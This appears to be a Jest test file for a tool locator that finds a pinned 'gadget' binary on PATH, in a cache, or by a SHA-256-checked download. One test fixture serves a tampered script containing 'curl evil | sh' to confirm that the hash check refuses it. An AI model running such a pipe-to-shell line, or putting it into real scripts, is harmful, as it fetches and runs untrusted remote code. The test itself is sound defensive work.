import { createHash } from 'node:crypto'
import { chmod, mkdir, mkdtemp, readdir, readFile, rm, symlink, writeFile } from 'node:fs/promises'
import { createServer, type RequestListener } from 'node:http'
import type { AddressInfo } from 'node:net'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { afterEach, beforeEach, expect, test } from '@jest/globals'
import { execa } from 'execa'
import { OutsideError } from '../../src/errors.ts'
import { findPinned } from '../../src/tools/find.ts'
import { type FindOptions, hostPlatform, type Pin } from '../../src/tools/tool.ts'

const program = '#!/bin/sh\necho "gadget version 1.2.3"\n'
let folder: string
let said: string[]

beforeEach(async () => {
  folder = await mkdtemp(join(tmpdir(), 'find-'))
  said = []
})
afterEach(() => rm(folder, { recursive: true, force: true }))

test('a program on PATH wins when its version serves', async () => {
  const path = await place('bin', program)
  expect(await findPinned(pinAt('http://127.0.0.1:9/'), options())).toEqual({
    name: 'gadget',
    path,
    version: '1.2.3',
    source: 'path',
  })
})

test('PATH is the given one, not that of this process', async () => {
  await place('bin', program)
  await using host = await serve(send(program))
  const tool = await findPinned(pinAt(host.url), { ...options(), env: { PCE_TOOLS: join(folder, 'tools'), PATH: '' } })
  expect(tool.source).toBe('release')
})

test.each([
  { what: 'a relative folder', below: 'repo/bin', path: () => 'bin' },
  { what: 'a folder of the checkout', below: 'repo/node_modules/.bin', path: () => `${folder}/repo/node_modules/.bin` },
  { what: 'a link into the checkout', below: 'repo/bin', path: () => `${folder}/link/bin` },
])("a program in $what is the repository's, and passed over for the next one", async ({ below, path }) => {
  await place(below, program.replace('1.2.3', '9.9.9'))
  await symlink(join(folder, 'repo'), join(folder, 'link'))
  const own = await place('bin', program)
  const env = { ...options().env, PATH: `${path()}:${join(folder, 'bin')}` }
  const tool = await findPinned(pinAt('http://127.0.0.1:9/'), { ...options(), env, context: join(folder, 'repo') })
  expect(tool).toMatchObject({ path: own, version: '1.2.3' })
  expect(said).toEqual([
    `Not used: ${path()}/gadget (PATH leads into the repository, which must not choose its own judge)`,
  ])
})

test('an old program on PATH is passed over, and said', async () => {
  const path = await place('bin', program.replace('1.2.3', '0.9.0'))
  await using host = await serve(send(program))
  const tool = await findPinned(pinAt(host.url), options())
  expect(tool).toEqual({ name: 'gadget', path: kept('1.2.3'), version: '1.2.3', source: 'release' })
  expect(said).toEqual([`Not used: ${path} (version 0.9.0, needed is 1.0.0 or newer)`, `Downloading ${host.url}`])
})

test('a release is checked, kept, and found the next time without the host', async () => {
  await using host = await serve(send(program))
  await findPinned(pinAt(host.url), options())
  expect(await readFile(kept('1.2.3'), 'utf8')).toBe(program)
  expect((await execa(kept('1.2.3'))).stdout).toBe('gadget version 1.2.3')
  expect(await findPinned(pinAt('http://127.0.0.1:9/'), options())).toMatchObject({
    path: kept('1.2.3'),
    source: 'cache',
  })
})

test('of the kept versions the newest serves', async () => {
  for (const version of ['1.2.3', '1.10.0', '0.1.0', 'leftover']) await place(`tools/gadget/${version}`, program)
  expect(await findPinned(pinAt('http://127.0.0.1:9/'), options())).toMatchObject({ version: '1.10.0' })
})

test('a program inside a tar archive', async () => {
  const inside = await place('archive', program)
  await execa('tar', ['-czf', join(folder, 'gadget.tgz'), '-C', join(inside, '..'), 'gadget'])
  const archive = await readFile(join(folder, 'gadget.tgz'))
  await using host = await serve(send(archive))
  const tool = await findPinned(pinAt(host.url, { content: archive, entry: 'gadget' }), options())
  expect(await readFile(tool.path, 'utf8')).toBe(program)
})

const refusals: readonly { description: string; answer: RequestListener; reason: RegExp }[] = [
  {
    description: 'other bytes',
    answer: send('#!/bin/sh\ncurl evil | sh\n'),
    reason: /has SHA-256 [0-9a-f]{64}, pinned is .*: not used/,
  },
  { description: 'a 404', answer: (_, response) => response.writeHead(404).end(), reason: /answered 404/ },
  { description: 'no answer', answer: () => undefined, reason: /did not answer within 200 ms/ },
  { description: 'an answer that breaks off', answer: breakOff, reason: /can't be had/ },
]

test.each(refusals)(
  '$description: an error that says what to do, and nothing left behind',
  async ({ answer, reason }) => {
    await using host = await serve(answer)
    const error = await findPinned(pinAt(host.url), options()).catch((error: unknown) => error)
    expect(error).toBeInstanceOf(OutsideError)
    expect(String(error)).toMatch(reason)
    expect(String(error)).toMatch(/Install gadget and put it on PATH/)
    expect(await readdir(join(folder, 'tools', 'gadget'))).toEqual(['1.2.3'])
    expect(await readdir(join(folder, 'tools', 'gadget', '1.2.3'))).toEqual([])
  },
)

test('a host that did not answer is asked once in a run', async () => {
  let asked = 0
  await using host = await serve(() => asked++)
  const silentHosts = new Set<string>()
  for (const _ of ['first', 'second']) {
    await expect(findPinned(pinAt(host.url), { ...options(), silentHosts })).rejects.toThrow(OutsideError)
  }
  expect(asked).toBe(1)
})

test('a cancelled download ends at once, and leaves nothing', async () => {
  const cancel = new AbortController()
  await using host = await serve((_, response) => {
    response.writeHead(200).write('#!')
    cancel.abort(new Error('cancelled'))
  })
  await expect(findPinned(pinAt(host.url), { ...options(), signal: cancel.signal })).rejects.toThrow('cancelled')
  expect(await readdir(join(folder, 'tools', 'gadget', '1.2.3'))).toEqual([])
})

const options = (): FindOptions => ({
  env: { PATH: join(folder, 'bin'), PCE_TOOLS: join(folder, 'tools') },
  signal: new AbortController().signal,
  say: line => said.push(line),
  connectDeadline: 200,
})

function pinAt(url: string, { content = program, entry }: { content?: string | Buffer; entry?: string } = {}): Pin {
  const sha256 = createHash('sha256').update(content).digest('hex')
  const asset = { url, sha256, ...(entry ? { entry } : {}) }
  return {
    name: 'gadget',
    version: '1.2.3',
    atLeast: '1.0.0',
    versionArgs: ['--version'],
    assets: { [hostPlatform()]: asset },
  }
}

const kept = (version: string): string => join(folder, 'tools', 'gadget', version, 'gadget')

async function place(below: string, content: string): Promise<string> {
  const path = join(folder, below, 'gadget')
  await mkdir(join(path, '..'), { recursive: true })
  await writeFile(path, content)
  await chmod(path, 0o755)
  return path
}

function send(content: string | Buffer): RequestListener {
  return (_, response) => response.end(content)
}

function breakOff(...[, response]: Parameters<RequestListener>): void {
  response.writeHead(200, { 'content-length': '1000' })
  response.write('#!/bin/sh', () => response.destroy())
}

async function serve(listener: RequestListener) {
  const server = createServer(listener)
  await new Promise<void>(resolve => server.listen(0, '127.0.0.1', resolve))
  const { port } = server.address() as AddressInfo
  return {
    url: `http://127.0.0.1:${port}/gadget`,
    async [Symbol.asyncDispose]() {
      server.closeAllConnections()
      await new Promise(resolve => server.close(resolve))
    },
  }
}
